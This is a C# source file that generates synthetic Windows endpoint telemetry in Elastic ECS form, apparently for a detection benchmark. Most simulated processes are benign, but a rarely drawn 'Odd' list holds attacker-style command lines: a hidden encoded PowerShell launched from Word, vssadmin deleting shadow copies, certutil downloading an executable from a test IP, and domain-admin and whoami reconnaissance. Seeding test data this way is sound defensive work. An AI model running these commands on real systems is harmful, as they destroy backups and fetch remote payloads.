using System.Globalization;

namespace Tocsin.Bench.EcsGenerator;

/// <summary>Elastic Defend on workstations: processes, files, registry, libraries, connections.</summary>
internal sealed class WindowsEndpoint(Dice dice, Machine[] machines)
    : Endpoint(dice, ("windows", "windows", "10.0.22631"))
{
    private static readonly RunningProgram[] Usual = RunningProgram.Read(
        """
        C:\Windows\System32\svchost.exe | C:\Windows\System32\services.exe | -k netsvcs -p -s Schedule
        C:\Program Files\Google\Chrome\Application\chrome.exe | C:\Program Files\Google\Chrome\Application\chrome.exe | --type=renderer --lang=en-US --device-scale-factor=1 --renderer-client-id=# --mojo-platform-channel-handle=#
        C:\Windows\System32\backgroundTaskHost.exe | C:\Windows\System32\svchost.exe | -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca
        C:\Windows\System32\conhost.exe | C:\Program Files\Git\cmd\git.exe | 0xffffffff -ForceV1
        C:\Program Files\Git\cmd\git.exe | C:\Program Files\Microsoft VS Code\Code.exe | -c core.quotepath=false status -z -uall
        C:\Program Files\Microsoft VS Code\Code.exe | C:\Program Files\Microsoft VS Code\Code.exe | --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --field-trial-handle=#
        C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE | C:\Windows\explorer.exe |
        C:\Windows\System32\SearchProtocolHost.exe | C:\Windows\System32\SearchIndexer.exe | Global\UsGthrFltPipeMssGthrPipe#_ Global\UsGthrCtrlFltPipeMssGthrPipe# 1 -2147483646
        C:\Windows\System32\RuntimeBroker.exe | C:\Windows\System32\svchost.exe | -Embedding
        C:\Windows\System32\dllhost.exe | C:\Windows\System32\svchost.exe | /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}
        C:\Users\USER\AppData\Local\Microsoft\Teams\current\Teams.exe | C:\Users\USER\AppData\Local\Microsoft\Teams\Update.exe | --type=gpu-process --enable-features=WinUseBrowserSpellChecker
        C:\Windows\System32\taskhostw.exe | C:\Windows\System32\svchost.exe | SYSTEM
        C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe | C:\Windows\System32\svchost.exe | /ua /installsource scheduler
        C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | C:\Program Files\Contoso\Agent\agent.exe | -NoProfile -File C:\Program Files\Contoso\Agent\inventory.ps1
        C:\Windows\System32\cmd.exe | C:\Program Files\nodejs\node.exe | /d /s /c npm run build --workspace app#
        C:\Windows\System32\wbem\WmiPrvSE.exe | C:\Windows\System32\svchost.exe | -secured -Embedding
        C:\Windows\System32\msiexec.exe | C:\Windows\System32\services.exe | /V
        C:\Windows\System32\rundll32.exe | C:\Windows\System32\svchost.exe | C:\Windows\System32\Windows.StateRepositoryClient.dll,Start #
        """
    );

    private static readonly RunningProgram[] Odd = RunningProgram.Read(
        """
        C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE | -w hidden -enc SQBFAFgA#
        C:\Windows\System32\whoami.exe | C:\Windows\System32\cmd.exe | /all
        C:\Windows\System32\vssadmin.exe | C:\Windows\System32\cmd.exe | delete shadows /all /quiet
        C:\Windows\System32\certutil.exe | C:\Windows\System32\cmd.exe | -urlcache -split -f http://203.0.113.9/a# a.exe
        C:\Windows\System32\net.exe | C:\Windows\System32\cmd.exe | group "Domain Admins" /domain
        """
    );

    private static readonly string[] Extensions =
    [
        "tmp",
        "log",
        "json",
        "js",
        "etl",
        "dat",
        "db-wal",
        "xml",
        "png",
        "pma",
        "docx",
        "dll",
        "pf",
        "lnk",
        "exe",
    ];

    private static readonly string[] Folders =
    [
        @"C:\Users\USER\AppData\Local\Google\Chrome\User Data\Default\Cache",
        @"C:\Users\USER\AppData\Local\Temp",
        @"C:\Users\USER\source\repos\app\node_modules\.cache",
        @"C:\ProgramData\Microsoft\Windows\WER\Temp",
        @"C:\Windows\Prefetch",
        @"C:\Users\USER\Documents",
        @"C:\Users\USER\AppData\Roaming\Microsoft\Windows\Recent",
    ];

    private static readonly string[] RegistryKeys =
    [
        @"SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{CEBFF5CD}\Count",
        @"SYSTEM\ControlSet001\Services\bam\State\UserSettings\S-1-5-21",
        @"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tasks\{A8}",
        @"SOFTWARE\Microsoft\Office\16.0\Common\Roaming\Identities\Settings",
        @"SYSTEM\ControlSet001\Services\Tcpip\Parameters\Interfaces\{7C}",
        @"SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\FeatureUsage\AppSwitched",
        @"SYSTEM\ControlSet001\Control\Nsi\{eb00}\26",
    ];

    private static readonly string[] Libraries =
    [
        "ntdll.dll",
        "kernel32.dll",
        "advapi32.dll",
        "amsi.dll",
        "clr.dll",
        "mscoree.dll",
        "wininet.dll",
        "vaultcli.dll",
        "dbghelp.dll",
    ];

    public void Write(Document document, long millis)
    {
        var machine = Dice.Skewed(machines);
        var user = Dice.Skewed(machine.Users);
        var program = Dice.Happens(0.0004) ? Dice.Any(Odd) : Dice.Skewed(Usual);
        switch (Dice.Next(100))
        {
            case < 38:
                WriteProcess(document, millis, machine, user, program);
                break;
            case < 68:
                WriteFile(document, millis, machine, user, program);
                break;
            case < 82:
                WriteRegistry(document, millis, machine, user, program);
                break;
            case < 92:
                WriteLibrary(document, millis, machine, user, program);
                break;
            default:
                WriteNetwork(document, millis, machine, user, program);
                break;
        }
    }

    private void WriteProcess(Document document, long millis, Machine machine, string user, RunningProgram program)
    {
        var isEnd = Dice.Happens(0.45);
        Begin(document, "process", "process", isEnd ? "end" : "start", isEnd ? "end" : "start", millis, machine);
        var path = program.Path.Replace("USER", user, StringComparison.Ordinal);
        var arguments = program.Fill(Dice);
        document.Open("process").Text("name", program.Name).Text("executable", path).Number("pid", Dice.Next(30_000));
        document.Text("entity_id", Dice.Hex(28)).Text("command_line", $"\"{path}\" {arguments}");
        document.List("args", [path, .. arguments.Split(' ', StringSplitOptions.RemoveEmptyEntries)]);
        document.Open("hash").Text("sha256", Dice.Hex(64)).Close();
        document.Open("code_signature").Flag("exists", true).Flag("trusted", true).Text("status", "trusted");
        document.Text("subject_name", SignerOf(program)).Close();
        document.Open("pe").Text("original_file_name", program.Name).Close();
        document.Open("parent").Text("name", program.ParentName).Number("pid", Dice.Next(30_000));
        document.Text("executable", program.Parent.Replace("USER", user, StringComparison.Ordinal));
        document.Text("entity_id", Dice.Hex(28)).Close();
        document.Open("Ext").Open("token").Text("integrity_level_name", Dice.Happens(0.3) ? "system" : "medium");
        document.Close().Close().Close();
        User(document, user);
    }

    private void WriteFile(Document document, long millis, Machine machine, string user, RunningProgram program)
    {
        var action = Dice.Skewed(["creation", "modification", "deletion", "rename", "overwrite"]);
        Begin(document, "file", "file", action == "creation" ? "creation" : "change", action, millis, machine);
        Actor(document, program, user);
        var extension = Dice.Skewed(Extensions);
        var name = $"{Dice.Hex(8)}.{extension}";
        var folder = Dice.Skewed(Folders).Replace("USER", user, StringComparison.Ordinal);
        document.Open("file").Text("name", name).Text("path", $@"{folder}\{name}").Text("extension", extension);
        document.Number("size", Dice.Next(900_000)).Open("Ext").Number("entropy", Dice.Next(8));
        document.Text("header_bytes", Dice.Hex(32)).Close().Close();
        User(document, user);
    }

    private void WriteRegistry(Document document, long millis, Machine machine, string user, RunningProgram program)
    {
        Begin(document, "registry", "registry", "change", "modification", millis, machine);
        Actor(document, program, user);
        var key = Dice.Skewed(RegistryKeys);
        var value = Dice.Skewed(["LastKnownGood", "Version", "SequenceNumber", "Time", "LeaseObtainedTime"]);
        document.Open("registry").Text("hive", "HKLM").Text("key", key).Text("value", value);
        document.Text("path", $@"HKLM\{key}\{value}").Open("data").Text("type", "REG_SZ");
        document.List("strings", Dice.Hex(12)).Close().Close();
        User(document, user);
    }

    private void WriteLibrary(Document document, long millis, Machine machine, string user, RunningProgram program)
    {
        Begin(document, "library", "library", "start", "load", millis, machine);
        Actor(document, program, user);
        var name = Dice.Skewed(Libraries);
        document.Open("dll").Text("name", name).Text("path", $@"C:\Windows\System32\{name}");
        document.Open("hash").Text("sha256", Dice.Hex(64)).Close();
        document.Open("code_signature").Flag("exists", true).Flag("trusted", true).Text("status", "trusted");
        document.Text("subject_name", "Microsoft Windows").Close();
        document.Open("pe").Text("original_file_name", name).Close().Close();
        User(document, user);
    }

    private void WriteNetwork(Document document, long millis, Machine machine, string user, RunningProgram program)
    {
        var isLookup = Dice.Happens(0.3);
        Begin(
            document,
            "network",
            "network",
            "start",
            isLookup ? "lookup_requested" : "connection_attempted",
            millis,
            machine
        );
        Actor(document, program, user);
        if (isLookup)
        {
            var host = $"cdn{Dice.Next(400).ToString(CultureInfo.InvariantCulture)}.example.com";
            document.Open("dns").Open("question").Text("name", host).Text("type", "A").Close().Close();
        }

        Connection(
            document,
            machine,
            49152 + Dice.Next(16000),
            $"198.51.100.{Dice.Next(250)}",
            Dice.Skewed([443, 80, 53, 8443])
        );
        User(document, user);
    }

    private void Actor(Document document, RunningProgram program, string user)
    {
        document.Open("process").Text("name", program.Name).Number("pid", Dice.Next(30_000));
        document.Text("executable", program.Path.Replace("USER", user, StringComparison.Ordinal));
        document.Text("entity_id", Dice.Hex(28));
        document.Open("code_signature").Flag("exists", true).Flag("trusted", true).Text("status", "trusted");
        document.Text("subject_name", SignerOf(program)).Close().Close();
    }

    private static string SignerOf(RunningProgram program) =>
        program.Path.Contains("Google", StringComparison.Ordinal) ? "Google LLC"
        : program.Path.Contains("System32", StringComparison.Ordinal) ? "Microsoft Windows"
        : "Microsoft Corporation";

    private static void User(Document document, string user) =>
        document
            .Open("user")
            .Text("name", user)
            .Text("domain", "CORP")
            .Text("id", $"S-1-5-21-1004336348-1177238915-682003330-{1000 + user.Length}")
            .Close();
}
